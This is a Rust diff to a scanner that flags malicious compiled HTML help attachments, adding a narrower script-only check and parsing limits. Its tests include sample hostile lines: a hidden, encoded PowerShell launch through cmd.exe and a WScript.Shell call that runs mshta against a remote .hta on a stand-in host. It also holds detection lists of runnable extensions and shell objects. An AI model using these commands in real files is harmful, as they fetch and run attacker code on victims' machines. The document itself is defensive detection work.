@@ -58,12 +58,13 @@ struct Layout {
 }
 
 pub(crate) fn analyse(w: &mut Walk<'_>, node: &mut Node, data: &[u8]) {
+    let base = crate::walk::base_name(&node.name).to_string();
     node.flag(
         "chm.file",
         Severity::High,
         "Attachment is a compiled HTML help file, whose pages run script with local rights",
         &[t::COMPILED_HTML],
-        crate::walk::base_name(&node.name).to_string(),
+        &base,
         "hh.exe renders .chm pages in the local zone: script and the HTML Help ActiveX control in them \
          can start programs; mail has no reason to carry help files",
     );
@@ -109,7 +110,7 @@ pub(crate) fn analyse(w: &mut Walk<'_>, node: &mut Node, data: &[u8]) {
     let mut unread = 0usize;
     for e in &entries {
         if internal(&e.name) {
-            if system.len() < 12 {
+            if system.len() < 12 && !e.name.ends_with('/') {
                 system.push(&e.name);
             }
             continue;
@@ -333,7 +334,7 @@ fn section1(
         window = window.saturating_mul(FRAME);
     }
     let window_size = lzx_window(window).ok_or_else(|| format!("LZX window {window} bytes"))?;
-    if reset == 0 || reset % FRAME != 0 {
+    if reset == 0 || !reset.is_multiple_of(FRAME) {
         return Err(format!("reset interval {reset} bytes"));
     }
     let reset_frames = reset / FRAME;
@@ -386,7 +387,7 @@ fn section1(
             err = Some(format!("frame {i} offsets out of range"));
             break;
         };
-        if i as u64 % reset_frames == 0 && i > 0 {
+        if i > 0 && (i as u64).is_multiple_of(reset_frames) {
             lzx.reset();
         }
         let len = FRAME.min(ulen - pos) as usize;
@@ -437,7 +438,8 @@ fn lzx_window(bytes: u64) -> Option<lzxd::WindowSize> {
 
 /// Extensions a page should not point at: programs and scripts Windows runs.
 const RUNNABLE: &[&str] = &[
-    "exe", "scr", "hta", "ps1", "bat", "cmd", "vbs", "vbe", "jse", "wsf", "msi", "pif", "lnk", "cpl",
+    "exe", "scr", "hta", "ps1", "bat", "cmd", "vbs", "vbe", "jse", "wsf", "msi", "pif", "lnk",
+    "cpl",
 ];
 
 /// Shell objects a help page's script has no business creating.
@@ -451,7 +453,11 @@ const SHELL_OBJECTS: &[&str] = &[
 /// Reads a page (HTML or script) for commands, text and links.
 fn scan_page(node: &mut Node, name: &str, b: &[u8]) {
     let ext = archive::extension(name);
-    let head = b.iter().take(512).copied().skip_while(u8::is_ascii_whitespace);
+    let head = b
+        .iter()
+        .take(512)
+        .copied()
+        .skip_while(u8::is_ascii_whitespace);
     let looks_html = head.take(1).any(|c| c == b'<');
     if !(looks_html
         || matches!(
@@ -469,9 +475,9 @@ fn scan_page(node: &mut Node, name: &str, b: &[u8]) {
     // The HTML Help ActiveX control: Command=ShortCut runs Item1, "[window],program,arguments".
     if low.contains(HHCTRL_CLSID) {
         let params = params(&text, &low);
-        let shortcut = params
-            .iter()
-            .any(|(k, v)| k.eq_ignore_ascii_case("command") && v.to_ascii_lowercase().contains("shortcut"));
+        let shortcut = params.iter().any(|(k, v)| {
+            k.eq_ignore_ascii_case("command") && v.to_ascii_lowercase().contains("shortcut")
+        });
         for (k, v) in &params {
             if k.eq_ignore_ascii_case("item1") {
                 let mut parts = v.splitn(3, ',');
@@ -486,15 +492,22 @@ fn scan_page(node: &mut Node, name: &str, b: &[u8]) {
             }
         }
     }
-    // Script that creates a shell object, or names a launcher with command-line switches.
-    if let Some(obj) = SHELL_OBJECTS.iter().find(|o| low.contains(**o)) {
-        commands.push(statement(&text, &low, obj));
+    // Script that creates a shell object, or names a launcher with command-line switches. Only
+    // script is read, not prose: developer help files document ShellExecute and PowerShell.
+    let script = if looks_html {
+        scripts(&text, &low)
+    } else {
+        text.to_string()
+    };
+    let slow = script.to_ascii_lowercase();
+    if let Some(obj) = SHELL_OBJECTS.iter().find(|o| slow.contains(**o)) {
+        commands.push(statement(&script, &slow, obj));
         why.push("script creates a shell object");
     }
-    let la = launchers(&text);
-    if !la.is_empty() && !command_markers(&text).is_empty() && commands.is_empty() {
+    let la = launchers(&script);
+    if !la.is_empty() && !command_markers(&script).is_empty() && commands.is_empty() {
         let first = la.first().map(|l| l.name).unwrap_or("");
-        commands.push(statement(&text, &low, first));
+        commands.push(statement(&script, &slow, first));
         why.push("script starts a command interpreter");
     }
     // Links and objects pointing at programs.
@@ -549,6 +562,33 @@ fn scan_page(node: &mut Node, name: &str, b: &[u8]) {
     );
 }
 
+/// The contents of the page's `<script>` elements, at most [`MAX_SCAN`] bytes together.
+fn scripts(text: &str, low: &str) -> String {
+    let mut out = String::new();
+    let mut from = 0;
+    while let Some(i) = low.get(from..).and_then(|r| r.find("<script")) {
+        let open = from + i;
+        let Some(body) = low
+            .get(open..)
+            .and_then(|r| r.find('>'))
+            .map(|p| open + p + 1)
+        else {
+            break;
+        };
+        let end = low
+            .get(body..)
+            .and_then(|r| r.find("</script"))
+            .map_or(low.len(), |p| body + p);
+        out.push_str(text.get(body..end).unwrap_or(""));
+        out.push('\n');
+        if out.len() > MAX_SCAN {
+            break;
+        }
+        from = end;
+    }
+    out
+}
+
 /// The statement around the first `needle`: from the line start, up to 300 characters.
 fn statement(text: &str, low: &str, needle: &str) -> String {
     let Some(i) = low.find(needle) else {
@@ -585,15 +625,24 @@ fn params(text: &str, low: &str) -> Vec<(String, String)> {
 /// Values of the named attributes in any tag.
 fn attr_values(text: &str, low: &str, names: &[&str]) -> Vec<String> {
     let mut out = Vec::new();
-    for (i, _) in low.match_indices('<').take(20_000) {
+    let mut tags = 0;
+    for (i, _) in low.match_indices('<') {
         let Some(rest) = low.get(i + 1..) else {
             continue;
         };
         let tag_end = rest
             .find(|c: char| !c.is_ascii_alphanumeric())
             .unwrap_or(rest.len());
-        if !matches!(&rest[..tag_end], "a" | "object" | "embed" | "iframe" | "frame" | "area") {
+        if !matches!(
+            &rest[..tag_end],
+            "a" | "object" | "embed" | "iframe" | "frame" | "area"
+        ) {
             continue;
+        }
+        // Each tag's attributes are read up to 2 KiB: a few thousand tags bound the work.
+        tags += 1;
+        if tags > 5_000 {
+            break;
         }
         for (n, v) in tag_attrs(text, i + 1 + tag_end) {
             if names.iter().any(|k| n.eq_ignore_ascii_case(k)) && out.len() < 200 {
@@ -604,13 +653,16 @@ fn attr_values(text: &str, low: &str, names: &[&str]) -> Vec<String> {
     out
 }
 
-/// Attributes of a tag from `from` (just past its name) to its unquoted `>`, at most 8 KiB.
+/// Attributes of a tag from `from` (just past its name) to its unquoted `>`, at most 2 KiB.
 fn tag_attrs(text: &str, from: usize) -> Vec<(String, String)> {
     let s = text.get(from..).unwrap_or("");
-    let mut chars = s.char_indices().take_while(|&(i, _)| i < 8192).peekable();
+    let mut chars = s.char_indices().take_while(|&(i, _)| i < 2048).peekable();
     let mut out = Vec::new();
     loop {
-        while chars.next_if(|(_, c)| c.is_whitespace() || *c == '/').is_some() {}
+        while chars
+            .next_if(|(_, c)| c.is_whitespace() || *c == '/')
+            .is_some()
+        {}
         let Some(&(_, c)) = chars.peek() else { break };
         if c == '>' {
             break;
@@ -689,7 +741,10 @@ fn visible_text(text: &str) -> String {
             in_tag = false;
             out.push(' ');
         } else if !in_tag {
-            let ch_len = text.get(i..).and_then(|r| r.chars().next()).map_or(1, char::len_utf8);
+            let ch_len = text
+                .get(i..)
+                .and_then(|r| r.chars().next())
+                .map_or(1, char::len_utf8);
             if let Some(s) = text.get(i..i + ch_len) {
                 out.push_str(s);
             }
@@ -700,7 +755,6 @@ fn visible_text(text: &str) -> String {
     }
     out.split_whitespace().collect::<Vec<_>>().join(" ")
 }
-
 
 #[cfg(test)]
 pub(crate) mod tests {
@@ -760,9 +814,7 @@ pub(crate) mod tests {
             }
             let (stream, offsets) = lzx_uncompressed(&plain);
             let mut control = Vec::new();
-            for v in [6u32] {
-                control.extend(v.to_le_bytes());
-            }
+            control.extend(6u32.to_le_bytes());
             control.extend(b"LZXC");
             for v in [2u32, 2, 2, 2, 0] {
                 control.extend(v.to_le_bytes()); // version 2, reset every 2 frames, 64 KiB window
@@ -809,7 +861,20 @@ pub(crate) mod tests {
         chunk.extend(body);
         chunk.resize(chunk_size, 0);
         let mut itsp = b"ITSP".to_vec();
-        for v in [1u32, 0x54, 0xa, chunk_size as u32, 2, 1, u32::MAX, 0, 0, u32::MAX, 1, 0x409] {
+        for v in [
+            1u32,
+            0x54,
+            0xa,
+            chunk_size as u32,
+            2,
+            1,
+            u32::MAX,
+            0,
+            0,
+            u32::MAX,
+            1,
+            0x409,
+        ] {
             itsp.extend(v.to_le_bytes());
         }
         itsp.extend([0u8; 16]);
@@ -856,13 +921,24 @@ pub(crate) mod tests {
         let data = build(&[("/index.htm", SHORTCUT), ("/help.htm", BENIGN)], &[]);
         let n = crate::analyse(&data, "manual.chm", None, &Options::default());
         assert_eq!(n.detected_type, crate::Kind::Chm);
-        let f = n.findings.iter().find(|f| f.id == "chm.command").expect("chm.command");
+        let f = n
+            .findings
+            .iter()
+            .find(|f| f.id == "chm.command")
+            .expect("chm.command");
         assert_eq!(f.severity, Severity::Critical);
         let ev = &f.evidence[0];
-        assert!(ev.value.contains("cmd.exe /c powershell -w hidden -enc"), "{}", ev.value);
+        assert!(
+            ev.value.contains("cmd.exe /c powershell -w hidden -enc"),
+            "{}",
+            ev.value
+        );
         assert!(ev.note.as_deref().unwrap_or("").contains("/index.htm"));
         let tech: Vec<&str> = f.techniques.iter().map(String::as_str).collect();
-        assert!(tech.contains(&t::COMPILED_HTML) && tech.contains(&t::POWERSHELL), "{tech:?}");
+        assert!(
+            tech.contains(&t::COMPILED_HTML) && tech.contains(&t::POWERSHELL),
+            "{tech:?}"
+        );
         assert!(tech.contains(&t::WINDOWS_COMMAND_SHELL));
         assert!(n.has("chm.file"));
         let names: Vec<&str> = n.children.iter().map(|c| c.name.as_str()).collect();
@@ -874,12 +950,24 @@ pub(crate) mod tests {
 
     #[test]
     fn benign_help_page_gets_only_the_file_finding() {
-        let data = build(&[("/index.htm", BENIGN)], &[]);
+        // A developer help page that documents ShellExecute and PowerShell switches in prose.
+        let api = b"<html><body><h2>ShellExecute</h2><p>Call ShellExecute or WScript.Shell's Run; \
+            from a console, run <code>powershell -enc BASE64</code>.</p></body></html>";
+        let data = build(&[("/index.htm", BENIGN), ("/api.htm", api)], &[]);
         let n = crate::analyse(&data, "help.chm", None, &Options::default());
-        let chm: Vec<String> = ids(&n).into_iter().filter(|i| i.starts_with("chm.")).collect();
+        let chm: Vec<String> = ids(&n)
+            .into_iter()
+            .filter(|i| i.starts_with("chm."))
+            .collect();
         assert_eq!(chm, ["chm.file"]);
-        assert_eq!(n.findings.iter().find(|f| f.id == "chm.file").map(|f| f.severity), Some(Severity::High));
-        assert_eq!(n.children.len(), 1);
+        assert_eq!(
+            n.findings
+                .iter()
+                .find(|f| f.id == "chm.file")
+                .map(|f| f.severity),
+            Some(Severity::High)
+        );
+        assert_eq!(n.children.len(), 2);
         assert!(!n.has("archive.contains_executable"));
     }
 
@@ -890,12 +978,34 @@ pub(crate) mod tests {
 s.Run "mshta https://evil.example/a.hta", 0</script></html>"#;
         let data = build(&[], &[("/pad.txt", &pad), ("/run.htm", page)]);
         let n = crate::analyse(&data, "a.chm", None, &Options::default());
-        assert!(n.format.as_deref().unwrap_or("").contains("LZX section decoded"), "{:?}", n.format);
-        let run = n.children.iter().find(|c| c.name == "/run.htm").expect("page");
+        assert!(
+            n.format
+                .as_deref()
+                .unwrap_or("")
+                .contains("LZX section decoded"),
+            "{:?}",
+            n.format
+        );
+        let run = n
+            .children
+            .iter()
+            .find(|c| c.name == "/run.htm")
+            .expect("page");
         assert_eq!(run.size, page.len() as u64);
-        let f = n.findings.iter().find(|f| f.id == "chm.command").expect("chm.command");
-        assert!(f.evidence[0].value.contains("WScript.Shell"), "{}", f.evidence[0].value);
-        assert!(n.links.iter().any(|l| l.starts_with("https://evil.example/a.hta")));
+        let f = n
+            .findings
+            .iter()
+            .find(|f| f.id == "chm.command")
+            .expect("chm.command");
+        assert!(
+            f.evidence[0].value.contains("WScript.Shell"),
+            "{}",
+            f.evidence[0].value
+        );
+        assert!(n
+            .links
+            .iter()
+            .any(|l| l.starts_with("https://evil.example/a.hta")));
     }
 
     #[test]
@@ -905,7 +1015,11 @@ s.Run "mshta https://evil.example/a.hta", 0</script></html>"#;
         let data = build(&[("/index.htm", page), ("/update.exe", &pe)], &[]);
         let n = crate::analyse(&data, "a.chm", None, &Options::default());
         assert!(n.has("archive.contains_executable"), "{:?}", ids(&n));
-        let f = n.findings.iter().find(|f| f.id == "chm.command").expect("chm.command");
+        let f = n
+            .findings
+            .iter()
+            .find(|f| f.id == "chm.command")
+            .expect("chm.command");
         assert_eq!(f.evidence[0].value, "update.exe");
     }
 
@@ -932,10 +1046,22 @@ s.Run "mshta https://evil.example/a.hta", 0</script></html>"#;
         let lzxc = find(b"LZXC");
         for v in [0u32, 3, u32::MAX] {
             let n = patch(lzxc + 12, &v.to_le_bytes());
-            assert!(n.format.as_deref().unwrap_or("").contains("section 1 not decoded"), "{:?}", n.format);
+            assert!(
+                n.format
+                    .as_deref()
+                    .unwrap_or("")
+                    .contains("section 1 not decoded"),
+                "{:?}",
+                n.format
+            );
         }
         patch(lzxc + 8, &u32::MAX.to_le_bytes());
-        let table = content + base[content..].windows(4).position(|w| w == [0x28, 0, 0, 0]).unwrap_or(0) - 12;
+        let table = content
+            + base[content..]
+                .windows(4)
+                .position(|w| w == [0x28, 0, 0, 0])
+                .unwrap_or(0)
+            - 12;
         patch(table + 4, &u32::MAX.to_le_bytes());
         patch(table + 16, &u64::MAX.to_le_bytes());
         // The whole thing decodes when left alone.
@@ -947,12 +1073,16 @@ s.Run "mshta https://evil.example/a.hta", 0</script></html>"#;
     fn mutated_and_truncated_files_do_not_panic() {
         let fixtures = [
             build(&[("/index.htm", SHORTCUT)], &[]),
-            build(&[("/index.htm", BENIGN)], &[("/b.htm", SHORTCUT), ("/c.htm", BENIGN)]),
+            build(
+                &[("/index.htm", BENIGN)],
+                &[("/b.htm", SHORTCUT), ("/c.htm", BENIGN)],
+            ),
         ];
         let mut seed = 0x2545_F491_4F6C_DD1Du64;
         for f in &fixtures {
             for cut in (0..f.len()).step_by(7) {
-                let _ = crate::analyse_as(crate::Kind::Chm, &f[..cut], "x.chm", &Options::default());
+                let _ =
+                    crate::analyse_as(crate::Kind::Chm, &f[..cut], "x.chm", &Options::default());
             }
             for _ in 0..400 {
                 let mut m = f.clone();
